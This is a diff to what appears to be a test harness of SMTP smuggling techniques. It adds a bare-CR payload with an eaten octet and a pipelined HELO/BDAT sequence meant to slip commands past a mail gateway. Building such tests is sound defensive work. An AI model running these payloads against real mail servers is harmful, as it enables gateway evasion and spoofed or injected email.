@@ -61,6 +61,9 @@ technique("bare-lf", "a bare LF ends the line before (RFC 5321 2.3.8)")(said(b"N
 technique("bare-lf-cut", "the bare LF is a segment's last octet")(said(b"NOOP\n", EVIL))
 technique("bare-cr", "a bare CR ends the line before", server=ANY_END)(said(b"NOOP\r" + EVIL))
 technique("bare-cr-cut", "the bare CR is a segment's last octet", server=ANY_END)(said(b"NOOP\r", EVIL))
+technique("bare-cr-eats", "a bare CR and an octet that may be eaten before the verb", server=ANY_END)(
+    said(b"NOOP\rX" + EVIL, b"NOOP\r\0" + EVIL)
+)
 technique("cr-cr-lf", "CR CR LF ends the line before", server=ANY_END)(said(b"NOOP\r\r\n" + EVIL))
 technique("lf-cr", "LF CR ends the line before", server=ANY_END)(said(b"NOOP\n\r" + EVIL))
 technique("blank-lines", "empty lines and bare line ends before the verb", server=ANY_END)(
@@ -320,6 +323,18 @@ technique(
     options=OPEN,
     server=_server,
 )(_run)
+
+
+@technique(
+    "bdat-helo-pipelined",
+    "HELO, BDAT and the chunk in one segment: what EHLO offered is taken back before the gateway hears of it",
+    options=OPEN,
+    server=Personality(chunking="strict"),
+)
+def bdat_helo_pipelined(attack: Attack) -> None:
+    connection = attack.session(b"EHLO")
+    connection.put(b"HELO evade.example\r\nBDAT 11\r\n" + EVIL)
+    connection.read()
 
 
 @technique(
